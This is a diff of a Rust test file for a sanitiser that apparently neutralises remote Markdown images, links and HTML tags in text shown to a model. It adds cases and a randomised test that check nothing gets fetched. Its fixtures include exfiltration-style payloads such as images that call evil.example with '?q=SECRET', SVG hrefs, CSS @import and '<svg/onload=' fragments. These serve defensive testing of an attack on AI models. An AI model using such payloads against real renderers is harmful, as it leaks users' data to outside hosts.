@@ -5,6 +5,8 @@ use daysheet_core::body::{Form, Reading, readable, visible};
 use daysheet_core::provider::{MessageContent, PlainText, TextPart};
 use daysheet_core::text::fence::OURS;
 use daysheet_core::text::orders::{gives_orders, gives_orders_unseen};
+use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};
+use url::Url;
 
 /// Returns what a model sees of a message: its text, then its notes.
 fn seen(subject: &str, part: TextPart, form: Form) -> String {
@@ -123,12 +125,20 @@ fn what_would_be_fetched_is_written_out() {
         "![](//evil.example/x) ![a\nb](<https://evil.example/y> \"t\")",
             "[image: at evil.example] [image: a b, at evil.example]\n! 2 pictures in Markdown that would be fetched from `evil.example` are written out";
         "![a][b] and ![b]\n\n[b]: https://evil.example/?q=SECRET",
-            "[image: a, at evil.example] and [image: b, at evil.example]\n\n[b]: https://evil.example/?q=SECRET\n! 2 pictures in Markdown that would be fetched from `evil.example` are written out";
+            "![a][b] and ![b]\n\n[b]\\: https://evil.example/?q=SECRET";
         "[![x](https://a.example/1)](https://b.example)",
-            "[[image: x, at a.example]](https://b.example)\n! a picture in Markdown that would be fetched from `a.example` is written out";
+            "[[image: x, at a.example]]\\(https://b.example)\n! a picture in Markdown that would be fetched from `a.example` is written out";
+        "![a ![b](//b.example) <i>](//a.example)(//c.example)",
+            "[image: a ! b (//b.example) i, at a.example]\\(//c.example)\n! a picture in Markdown that would be fetched from `a.example` is written out";
+        "> [r]:\n> https&#58;//evil.example\n\n![x](\n<h&colon;y>) [bank.example](\\//evil.example)",
+            "> [r]\\:\n> https&#58;//evil.example\n\n![x]\\(\n<h&colon;y>) [bank.example]\\(\\//evil.example)";
+        "<svg><image\nhref='//evil.example/p'/></svg> <style>@import '//evil.example'</style>",
+            "<svg>< image\nhref='//evil.example/p'/></svg> < style>@import '//evil.example'</style>";
         "<img src='https://evil.example/p?x=1' alt=x>",
             "[image: at evil.example]\n! a picture in Markdown that would be fetched from `evil.example` is written out";
         "Wow![1] a ![b](local.png) ![c](x y)\n\n[1]: see below", "Wow![1] a ![b](local.png) ![c](x y)\n\n[1]: see below";
+        "a[i](x) if a<b [1] (https://x.org) [R&D]: yes ！［x］（https://x.org）", "a[i](x) if a<b [1] (https://x.org) [R&D]: yes ！［x］（https://x.org）";
+        "<https://x.org/?a=1> <ann+b=c@x.org> <b> <vector> </a> Map<K, V> [Note]: see: x", "<https://x.org/?a=1> <ann+b=c@x.org> <b> <vector> </a> Map<K, V> [Note]: see: x";
         "data:image/png;base64,AAAA", "data:image/png;base64,AAAA";
     };
     for (text, want) in cases {
@@ -144,6 +154,124 @@ fn what_would_be_fetched_is_written_out() {
     );
     let markdown = seen("", TextPart::Html(source.to_owned()), Form::Markdown);
     assert!(!markdown.contains("![x]("), "{markdown}");
+}
+
+/// Whatever a stranger writes, a program that shows all of it or its end as Markdown fetches
+/// nothing, and shows where its links lead.
+#[test]
+fn no_sign_of_a_stranger_is_followed() {
+    let signs = [
+        "!",
+        "[",
+        "]",
+        "(",
+        ")",
+        "![",
+        "](",
+        "][",
+        "]:",
+        "![x](",
+        "[r]",
+        "[r]: ",
+        "[bank.example](",
+        "\n",
+        "\n\n",
+        "\n\n",
+        " ",
+        "    ",
+        "\t",
+        "\\",
+        "<",
+        ">",
+        "/",
+        "`",
+        "```\n",
+        "\n> ",
+        "\n- ",
+        "\n1. ",
+        "\n[r]: ",
+        "\n> [r]:\n> ",
+        "https://evil.example/p",
+        "//evil.example",
+        "http:",
+        "&#58;",
+        "&colon;",
+        "&lpar;",
+        "x",
+        "r",
+        "\"t\"",
+        " 't'",
+        "<img src=",
+        "<div>",
+        "</div>",
+        "<pre>",
+        "<a href=",
+        "<svg/onload=",
+        "<!--",
+        "-->",
+        "<https://x.org>",
+        "！",
+        "（",
+        "*",
+        "_",
+        "|",
+        "\n| a |\n| - |\n",
+        "[^r]",
+        "[^r]: ",
+        "data:image/png;base64,AAAA",
+        "mailto:a@b.example",
+    ];
+    let mut seed = 7_u64;
+    let mut next = |most: usize| {
+        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        (seed >> 33) as usize % most
+    };
+    let mut armed = 0;
+    for _ in 0..2_000 {
+        let source: String = (0..next(14) + 2).map(|_| signs[next(signs.len())]).collect();
+        armed += usize::from(followed(&source).is_some());
+        let escaped = source.replace('&', "&amp;").replace('<', "&lt;").replace('\n', "<br>");
+        let part = |form| seen("", TextPart::Html(escaped.clone()), form);
+        for shown in [plain(&source), part(Form::Text), part(Form::Markdown)] {
+            let from = shown.floor_char_boundary(next(shown.len() + 1));
+            for text in [&shown[..], &shown[from..]] {
+                assert_eq!(followed(text), None, "{source:?}\n{shown:?}\n{text:?}");
+            }
+        }
+    }
+    assert!(armed > 20, "{armed} texts of 2,000 have something to follow");
+}
+
+/// Returns what a program would fetch that shows a text as Markdown, or where a link leads that
+/// does not say so.
+fn followed(text: &str) -> Option<String> {
+    let here = Url::parse("https://here.example/a/b").unwrap();
+    let is_far = |url: &str| here.join(url).is_ok_and(|url| url.origin() != here.origin());
+    let is_tag = |part: &str| {
+        let tag = part.split('>').next().unwrap();
+        tag.starts_with(char::is_alphabetic) && tag.contains('=') && tag.contains([' ', '/', '\n'])
+    };
+    for event in Parser::new_ext(
+        text,
+        Options::ENABLE_GFM | Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES,
+    ) {
+        match event {
+            Event::Start(Tag::Image { dest_url, .. }) if is_far(&dest_url) => {
+                return Some(dest_url.to_string());
+            }
+            Event::Start(Tag::Link { link_type, dest_url, .. })
+                if is_far(&dest_url)
+                    && !matches!(link_type, LinkType::Autolink | LinkType::Email) =>
+            {
+                return Some(dest_url.to_string());
+            }
+            Event::Html(html) | Event::InlineHtml(html) if html.split('<').skip(1).any(is_tag) => {
+                return Some(html.to_string());
+            }
+            _ => {}
+        }
+    }
+    None
 }
 
 #[test]
